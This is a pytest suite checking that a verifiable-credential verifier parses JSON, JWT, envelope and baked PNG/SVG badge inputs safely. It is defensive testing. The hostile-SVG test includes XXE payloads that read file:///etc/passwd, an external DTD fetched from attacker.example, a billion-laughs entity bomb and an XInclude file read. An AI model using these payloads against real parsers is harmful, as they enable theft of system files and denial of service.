"""Input detection: JSON, JWT, envelopes and baked PNG/SVG images (security catalog §5, IMG-01..IMG-08)."""
from __future__ import annotations

import json
import struct
import zlib

import pytest

from issuer.delivery.baking import bake_png, bake_svg

from .support import NOW, Resolver, checks, credential, did_web_issuer, signed, vc_jwt, verifier


@pytest.fixture(scope="module")
def issuer():
    return did_web_issuer("images")


@pytest.fixture(scope="module")
def resolver(issuer):
    return Resolver().add(issuer)


def _chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I4s", len(data), ctype) + data + struct.pack(">I", zlib.crc32(data, zlib.crc32(ctype)))


def png(*extra_chunks: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\0\0")
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + b"".join(extra_chunks) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


SVG = b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>'


@pytest.mark.parametrize("kind", ["png", "svg"])
@pytest.mark.parametrize("form", ["json", "jwt"])
def test_baked_credential_verifies(issuer, resolver, kind, form):
    text = json.dumps(signed(issuer)) if form == "json" else vc_jwt(credential(issuer), issuer)
    image = bake_png(png(), text) if kind == "png" else bake_svg(SVG, text)
    report = verifier(resolver).verify(image, now=NOW)
    assert report.verified and report.format == kind
    assert ("VC-JWT" in report.check("parsing").reason) == (form == "jwt")


@pytest.mark.parametrize("kind", ["png", "svg"])
def test_img08_baked_credential_whose_proof_fails(issuer, resolver, kind):
    document = signed(issuer)
    document["name"] = "Forged"
    image = bake_png(png(), json.dumps(document)) if kind == "png" else bake_svg(SVG, json.dumps(document))
    report = verifier(resolver).verify(image, now=NOW)
    assert checks(report)["parsing"] == "passed" and checks(report)["proof"] == "failed" and not report.verified


def _itxt(text: bytes, compressed: bool = False) -> bytes:
    body = zlib.compress(text) if compressed else text
    return _chunk(b"iTXt", b"openbadgecredential\0" + (b"\1\0" if compressed else b"\0\0") + b"\0\0" + body)


@pytest.mark.parametrize("size", [50_000_000, 100])
def test_img01_compressed_itxt_is_refused(resolver, size):
    bomb = _itxt(b"{" + b" " * size + b"}", compressed=True)
    report = verifier(resolver).verify(png(bomb), now=NOW)
    assert report.format == "png" and "compress" in report.check("parsing").reason


@pytest.mark.parametrize("case", ["bad-crc", "huge-length", "truncated", "two-chunks", "no-credential", "not-png"])
def test_img02_malformed_png(issuer, resolver, case):
    text = json.dumps(signed(issuer)).encode()
    if case == "bad-crc":
        image = png(_itxt(text)[:-4] + b"\0\0\0\0")
    elif case == "huge-length":
        image = png(struct.pack(">I4s", 0x7FFFFFFF, b"tEXt") + b"abc")
    elif case == "truncated":
        image = png(_itxt(text))[:-20]
    elif case == "two-chunks":
        image = png(_itxt(b"not json"), _itxt(text))
    elif case == "no-credential":
        image = png(_chunk(b"tEXt", b"Comment\0hello"))
    else:
        image = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
    report = verifier(resolver).verify(image, now=NOW)
    assert report.check("parsing").status == "failed" and report.check("parsing").code == "PARSING_ERROR"
    assert not report.verified


def test_img03_image_over_the_cap(resolver):
    huge = png(_chunk(b"tEXt", b"x\0" + b"a" * 9_000_000))
    report = verifier(resolver).verify(huge, now=NOW)
    assert "larger than" in report.check("parsing").reason


@pytest.mark.parametrize("svg", [
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    b'<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg">&lol2;</svg>',
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></svg>',
    b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<g>" * 1000 + b"</g>" * 1000 + b"</svg>",
    b"<html><body>not an svg</body></html>",
    b"<svg",
])
def test_img05_hostile_svg(resolver, svg):
    report = verifier(resolver).verify(svg, now=NOW)
    assert report.format == "svg" and report.check("parsing").status == "failed"


@pytest.mark.parametrize("second", [b"<openbadges:credential><![CDATA[{}]]></openbadges:credential>",
                                    b'<openbadges:credential verify="a.b.c"><![CDATA[{}]]></openbadges:credential>'])
def test_img06_svg_with_two_credentials_is_refused(issuer, resolver, second):
    good = json.dumps(signed(issuer))
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
           b"<openbadges:credential><![CDATA[" + good.encode() + b"]]></openbadges:credential>" + second + b"</svg>")
    report = verifier(resolver).verify(svg, now=NOW)
    assert report.check("parsing").status == "failed" and "more than one" in report.check("parsing").reason


def test_img06_svg_credential_in_both_attribute_and_body(issuer, resolver):
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
           b'<openbadges:credential verify="a.b.c"><![CDATA[{}]]></openbadges:credential></svg>')
    assert verifier(resolver).verify(svg, now=NOW).check("parsing").status == "failed"


def test_enveloped_credential(issuer, resolver):
    token = vc_jwt(credential(issuer), issuer)
    envelope = {"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["EnvelopedVerifiableCredential"],
                "id": "data:application/vc+jwt," + token}
    report = verifier(resolver).verify(envelope, now=NOW)
    assert report.verified and report.format == "jwt"


@pytest.mark.parametrize("data_url", ["data:application/jwt,x.y.z", "https://example.com/vc.jwt", None])
def test_enveloped_credential_with_bad_id(resolver, data_url):
    envelope = {"@context": ["https://www.w3.org/ns/credentials/v2"], "type": "EnvelopedVerifiableCredential",
                "id": data_url}
    assert verifier(resolver).verify(envelope, now=NOW).check("parsing").status == "failed"


@pytest.mark.parametrize("subject", [12, None, 1.5, ["a"], object(), b"", "", "   ", b"\xff\xfe\x00"])
def test_unsupported_subjects(resolver, subject):
    report = verifier(resolver).verify(subject, now=NOW)
    assert report.check("parsing").status == "failed" and report.verified is False
    assert report.credential is None and report.summary is None


def test_json_with_bom_and_whitespace(issuer, resolver):
    text = "\ufeff\n  " + json.dumps(signed(issuer)) + "\n"
    assert verifier(resolver).verify(text.encode("utf-8"), now=NOW).verified


def test_jwt_bytes_with_trailing_newline(issuer, resolver):
    assert verifier(resolver).verify((vc_jwt(credential(issuer), issuer) + "\n").encode(), now=NOW).verified
